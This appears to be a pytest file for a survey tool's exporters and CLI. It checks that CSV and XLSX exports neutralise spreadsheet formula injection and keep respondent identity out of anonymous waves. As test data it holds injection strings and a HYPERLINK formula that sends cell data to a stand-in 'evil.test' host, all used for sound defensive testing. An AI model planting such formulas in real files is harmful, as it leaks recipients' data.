"""Exports of a wave's responses: formula injection neutralised in CSV and XLSX, identity only where the wave is
not anonymous, never a token or link; and the `ldalign` commands of the collector end to end."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ldcore.cli import main
from ldcore.db import read_session, unit_of_work
from ldcore.errors import Invalid
from ldcore.io.exports import neutralise
from ldcore.services import imports, responses
from tests.support.surveys import build, invite, make_wave, plan_document, token_of

NASTY = ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", NASTY)
def test_cells_a_spreadsheet_would_run_are_neutralised(value):
    assert neutralise(value) == "'" + value


def test_plain_text_and_numbers_are_left_alone():
    assert [neutralise(v) for v in ("ok", "a=b", -3, 2.5, None)] == ["ok", "a=b", -3, 2.5, None]


def answered_wave(engine, anonymity: str) -> list:
    build(engine, {"alpha": 3})
    make_wave(engine, anonymity=anonymity)
    links = invite(engine, "base")
    for n, link in enumerate(links):
        with unit_of_work(engine) as session:
            responses.submit_response(
                session,
                token=token_of(link),
                answers={"proficiency": {"neg": 3, "coach": 2, "excel": 1}, "comments": NASTY[n]},
            )
    return links


def export(engine, kind: str) -> bytes:
    with read_session(engine) as session:
        return imports.export_responses(session, wave_key="base", kind=kind)


def test_a_confidential_wave_exports_who_answered_and_neutralised_text(engine):
    links = answered_wave(engine, "confidential")
    rows = list(csv.DictReader(io.StringIO(export(engine, "csv").decode("utf-8-sig"))))
    assert sorted(r["email"] for r in rows) == sorted(link.email for link in links)
    assert sorted(r["comments"] for r in rows) == sorted("'" + v for v in NASTY[:3])
    assert all(token_of(link) not in export(engine, "csv").decode() for link in links)


def test_an_anonymous_wave_never_exports_identity_or_links(engine):
    links = answered_wave(engine, "anonymous")
    for kind in ("csv", "xlsx"):
        content = export(engine, kind)
        if kind == "xlsx":
            sheet = load_workbook(io.BytesIO(content)).active
            text = "\n".join(",".join(str(c) for c in row) for row in sheet.iter_rows(values_only=True))
        else:
            text = content.decode("utf-8-sig")
        header = text.splitlines()[0]
        assert "email" not in header and "name" not in header
        for link in links:
            assert link.email not in text and link.name not in text and token_of(link) not in text
        assert "'=1+1" in text


def test_xlsx_cells_hold_the_neutralised_text_not_a_formula(engine):
    answered_wave(engine, "identified")
    sheet = load_workbook(io.BytesIO(export(engine, "xlsx"))).active
    comments = sorted(row[-1] for row in sheet.iter_rows(min_row=2, values_only=True))
    assert comments == sorted("'" + v for v in NASTY[:3])
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_exports_only_come_as_csv_or_xlsx(engine):
    answered_wave(engine, "confidential")
    with pytest.raises(Invalid, match=r"\.csv or \.xlsx"):
        export(engine, "pdf")


def test_the_collector_commands_work_end_to_end(engine, db_url, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("LDALIGN_REMINDER_GAP_DAYS", "0")  # remind at once
    with unit_of_work(engine) as session:
        from ldcore.services import plans

        plans.import_plan(session, document=plan_document())
    (tmp_path / "roster.csv").write_text("email,name,team\na@example.org,A,alpha\nb@example.org,B,beta\n")
    run = lambda *args: main(["--database", db_url, *args])  # noqa: E731
    assert run("roster", "import", str(tmp_path / "roster.csv")) == 0
    assert run("wave", "create", "--plan", "p1", "--survey", "capability_baseline", "--kind", "baseline",
               "--key", "b1", "--min-group", "3") == 0  # fmt: skip
    assert run("wave", "create", "--plan", "p1", "--survey", "capability_baseline", "--kind", "baseline",
               "--key", "b2", "--min-group", "2") == 2  # fmt: skip
    assert "never below 3" in capsys.readouterr().err
    assert run("invite", "--wave", "b1", "--out", str(tmp_path / "links.csv"), "--base-url", "https://x.test") == 0
    links = list(csv.DictReader((tmp_path / "links.csv").open(encoding="utf-8-sig")))
    assert [(r["email"], r["team"]) for r in links] == [
        ("a@example.org", "Alpha Sales"),
        ("b@example.org", "Beta Service"),
    ]
    assert all(r["link"].startswith("https://x.test/respond?t=") for r in links)
    (tmp_path / "answers.csv").write_text("response_id,team,proficiency[neg]\nx1,alpha,4\n")
    assert run("responses", "import", str(tmp_path / "answers.csv"), "--wave", "b1", "--dry-run") == 0
    assert "would import 1 new responses" in capsys.readouterr().out
    assert run("responses", "import", str(tmp_path / "answers.csv"), "--wave", "b1") == 0
    (tmp_path / "bad.csv").write_text("response_id,team,proficiency[neg]\nx2,alpha,9\n")
    assert run("responses", "import", str(tmp_path / "bad.csv"), "--wave", "b1") == 2
    assert "line 2, column 'proficiency[neg]'" in capsys.readouterr().err
    assert run("export", "responses", "--wave", "b1", "--out", str(tmp_path / "out.xlsx")) == 0
    assert load_workbook(tmp_path / "out.xlsx").active.max_row == 2
    assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv"), "--base-url", "https://x.test") == 0
    assert len(list(csv.DictReader((tmp_path / "remind.csv").open(encoding="utf-8-sig")))) == 2


HYPERLINK = '=HYPERLINK("http://evil.test/leak?"&C2,"Open survey")'


def test_links_files_from_invite_and_remind_neutralise_team_names_and_emails(engine, db_url, tmp_path, monkeypatch):
    monkeypatch.setenv("LDALIGN_REMINDER_GAP_DAYS", "0")  # remind at once
    document = plan_document().model_dump(mode="json")
    document["teams"][0]["name"] = HYPERLINK
    with unit_of_work(engine) as session:
        from ldcore.schemas import PlanDocument
        from ldcore.services import plans

        plans.import_plan(session, document=PlanDocument.model_validate(document))
    (tmp_path / "roster.csv").write_text("email,name,team\n=1+1@example.org,A,alpha\n-b@example.org,B,beta\n")
    run = lambda *args: main(["--database", db_url, *args])  # noqa: E731
    assert run("roster", "import", str(tmp_path / "roster.csv")) == 0
    assert run("wave", "create", "--plan", "p1", "--survey", "capability_baseline", "--kind", "baseline",
               "--key", "b1", "--min-group", "3") == 0  # fmt: skip
    assert run("invite", "--wave", "b1", "--out", str(tmp_path / "links.csv"), "--base-url", "https://x.test") == 0
    assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv"), "--base-url", "https://x.test") == 0
    for name in ("links.csv", "remind.csv"):
        rows = list(csv.reader((tmp_path / name).open(encoding="utf-8-sig")))
        assert rows[0] == ["email", "team", "link"]
        assert sorted((r[0], r[1]) for r in rows[1:]) == [
            ("'-b@example.org", "Beta Service"),
            ("'=1+1@example.org", "'" + HYPERLINK),
        ]
